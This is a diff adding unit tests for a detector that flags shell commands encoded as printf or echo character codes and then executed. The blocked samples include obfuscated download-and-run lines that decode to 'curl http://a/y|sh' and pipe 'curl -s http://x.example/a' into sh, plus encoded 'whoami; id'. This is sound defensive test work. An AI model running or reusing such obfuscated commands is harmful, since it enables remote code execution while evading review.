@@ -153,3 +153,18 @@ describe('a script written from decoded text and then run', () => {
     ],
   ])('allows %s', (text, shell) => expect(ruleIds(text, shell)).not.toContain('enc.decoded-file-run'));
 });
+
+describe('text written as character codes for printf or echo, then run', () => {
+  it.each([
+    'eval "$(printf \'\\143\\165\\162\\154\\040\\150\\164\\164\\160\\072\\057\\057\\141\\057\\171\\174\\163\\150\')"',
+    'c=$(printf \'\\x77\\x68\\x6f\\x61\\x6d\\x69\\x3b\\x20\\x69\\x64\'); eval "$c"',
+    'bash -c "$(echo -e \'\\x69\\x64\')"',
+    "printf 'c\\x75rl -s http://x.example/a' | sh",
+  ])('blocks %s', (text) => expect(codes(text, 'bash')).toContain('encoded_command'));
+
+  it.each([
+    "printf '\\033[1;32mOK\\033[0m\\n' > /tmp/s.sh; bash /tmp/s.sh",
+    "echo -e '\\033[31mred\\033[0m'",
+    "printf '\\x77\\x68\\x6f\\x61\\x6d\\x69\\n' > /tmp/notes.txt",
+  ])('allows %s (colour codes, or codes not run)', (text) => expect(codes(text, 'bash')).not.toContain('encoded_command'));
+});
